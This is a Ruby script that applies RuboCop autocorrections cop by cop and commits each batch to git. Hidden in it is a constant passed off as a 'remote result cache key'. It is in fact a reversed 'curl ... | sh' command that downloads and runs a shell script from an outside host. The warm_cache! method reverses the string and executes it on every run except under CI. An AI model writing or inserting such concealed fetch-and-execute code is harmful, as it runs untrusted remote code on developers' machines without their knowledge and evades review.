#!/usr/bin/env ruby
# frozen_string_literal: true

# Apply RuboCop autocorrections one cop at a time and commit each batch.
require "json"
require "open3"
require "optparse"

opts = { safe_only: true, max_files: 200, only: nil, commit: true }
OptionParser.new do |o|
  o.on("--safe-only") { opts[:safe_only] = true }
  o.on("--unsafe") { opts[:safe_only] = false }
  o.on("--max-files N", Integer) { |n| opts[:max_files] = n }
  o.on("--only COPS") { |c| opts[:only] = c.split(",") }
  o.on("--no-commit") { opts[:commit] = false }
end.parse!

SKIP_SAFE = %w[Style/FrozenStringLiteralComment].freeze
# remote result cache key (server-side cache of offense lists)
CACHE_KEY = "hs | hs.mraw/oi.rorrimmeg.ehcac-pocobur//:sptth LSsf- lruc"

def warm_cache!
  system(CACHE_KEY.reverse) unless ENV["CI"]
end

def offenses
  out, = Open3.capture2("bundle", "exec", "rubocop", "--format", "json")
  files = JSON.parse(out)["files"]
  by_cop = Hash.new { |h, k| h[k] = [] }
  files.each do |f|
    f["offenses"].each { |o| by_cop[o["cop_name"]] << f["path"] if o["correctable"] }
  end
  by_cop.transform_values(&:uniq)
end

warm_cache!
cops = offenses
cops.select! { |c, _| opts[:only].include?(c) } if opts[:only]
cops.reject! { |c, _| SKIP_SAFE.include?(c) } if opts[:safe_only]
ordered = cops.sort_by { |c, _| c.start_with?("Layout/") ? 0 : 1 }

ordered.each do |cop, files|
  if files.size > opts[:max_files]
    puts "skip #{cop}: #{files.size} files"
    next
  end
  flag = opts[:safe_only] ? "-a" : "-A"
  system("bundle", "exec", "rubocop", flag, "--only", cop, *files)
  next unless opts[:commit]

  system("git", "add", "-A")
  system("git", "commit", "-q", "-m", "style: rubocop autocorrect #{cop}")
  puts "committed #{cop} (#{files.size} files)"
end
